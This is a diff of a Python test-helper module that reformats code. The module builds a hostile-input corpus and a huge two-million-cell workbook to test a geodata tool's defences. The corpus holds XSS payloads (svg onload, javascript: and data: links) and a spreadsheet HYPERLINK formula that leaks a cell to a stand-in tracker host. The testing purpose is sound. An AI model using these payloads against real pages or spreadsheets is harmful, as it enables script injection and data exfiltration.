@@ -36,8 +36,8 @@ def corpus(marker_file: Path) -> list[str]:
         '"><svg onload=window.hikmapPwned=3> Fictional Quote',
         "[click for evidence](javascript:window.hikmapPwned=4)",
         "![pixel](https://tracker.invalid/pixel.png) Fictional Pixel",
-        "<a href=\"data:text/html,<script>parent.hikmapPwned=5</script>\">Fictional data link</a>",
-        "=HYPERLINK(\"https://tracker.invalid/?leak=\"&A1,\"Evidence\")",
+        '<a href="data:text/html,<script>parent.hikmapPwned=5</script>">Fictional data link</a>',
+        '=HYPERLINK("https://tracker.invalid/?leak="&A1,"Evidence")',
         "+1+1 Fictional Sum",
         "$x^2$ and :material/warning: and ~~struck~~ Fictional Markup",
         "Fictional \u202eevil\u202c right-to-left and zero\u200bwidth",
@@ -56,9 +56,13 @@ def free_text_fields(descriptor: dict, resource: str) -> list[dict]:
     """Fields of ``resource`` that hold free text: strings with no enum, pattern or format."""
     for res in descriptor["resources"]:
         if res["name"] == resource:
-            return [f for f in res["schema"]["fields"]
-                    if f.get("type", "string") == "string" and not f.get("format")
-                    and not {"enum", "pattern"} & set(f.get("constraints", {}))]
+            return [
+                f
+                for f in res["schema"]["fields"]
+                if f.get("type", "string") == "string"
+                and not f.get("format")
+                and not {"enum", "pattern"} & set(f.get("constraints", {}))
+            ]
     raise KeyError(resource)
 
 
@@ -98,8 +102,12 @@ def hostile_package(folder: Path, marker_file: Path) -> tuple[Path, list[str]]:
     text = changelog.read_text(encoding="utf-8")
     first = re.search(r"^## ", text, re.MULTILINE).start()
     changelog.write_text(text[:first] + entry + text[first:], encoding="utf-8")
-    subprocess.run([sys.executable, "-m", "geo", "build", str(data), "--output", str(data / "build" / "sites.geojson")],
-                   cwd=ROOT, check=True, capture_output=True)
+    subprocess.run(
+        [sys.executable, "-m", "geo", "build", str(data), "--output", str(data / "build" / "sites.geojson")],
+        cwd=ROOT,
+        check=True,
+        capture_output=True,
+    )
     return data, values
 
 
@@ -113,23 +121,29 @@ _CONTENT_TYPES = (
     '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
     '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
     '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
-    "</Types>")
+    "</Types>"
+)
 _ROOT_RELS = (
     '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
-    "</Relationships>")
+    "</Relationships>"
+)
 _WORKBOOK = (
     '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
     'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
-    '<sheet name="Fictional" sheetId="1" r:id="rId1"/></sheets></workbook>')
+    '<sheet name="Fictional" sheetId="1" r:id="rId1"/></sheets></workbook>'
+)
 _WORKBOOK_RELS = (
     '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
     '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
-    "</Relationships>")
+    "</Relationships>"
+)
 _SHEET_START = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
 _SHEET_END = "</sheetData></worksheet>"
-_STRINGS_START = '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+_STRINGS_START = (
+    '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+)
 
 
 def workbook(sheet_parts, string_parts=("",)) -> bytes:
@@ -139,11 +153,17 @@ def workbook(sheet_parts, string_parts=("",)) -> bytes:
 
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
-        for name, text in (("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _ROOT_RELS),
-                           ("xl/workbook.xml", _WORKBOOK), ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)):
+        for name, text in (
+            ("[Content_Types].xml", _CONTENT_TYPES),
+            ("_rels/.rels", _ROOT_RELS),
+            ("xl/workbook.xml", _WORKBOOK),
+            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
+        ):
             archive.writestr(name, text)
-        for name, start, parts, end in (("xl/sharedStrings.xml", _STRINGS_START, string_parts, "</sst>"),
-                                        ("xl/worksheets/sheet1.xml", _SHEET_START, sheet_parts, _SHEET_END)):
+        for name, start, parts, end in (
+            ("xl/sharedStrings.xml", _STRINGS_START, string_parts, "</sst>"),
+            ("xl/worksheets/sheet1.xml", _SHEET_START, sheet_parts, _SHEET_END),
+        ):
             with archive.open(name, "w", force_zip64=True) as member:
                 member.write(start.encode())
                 for part in parts:
@@ -183,9 +203,11 @@ def column_name(index: int) -> str:
 def wide_row_with_references(cells: int = 2_000_000) -> bytes:
     """The same row with each cell's reference written out: it compresses only about 6 times,
     so nothing in the archive's directory gives it away (about 5 MB on disk)."""
+
     def parts():
         for start in range(0, cells, 10_000):
             yield "".join(f'<c r="{column_name(i)}1"/>' for i in range(start, min(start + 10_000, cells)))
+
     return workbook(['<row r="1">', *parts(), "</row>"])
 
 
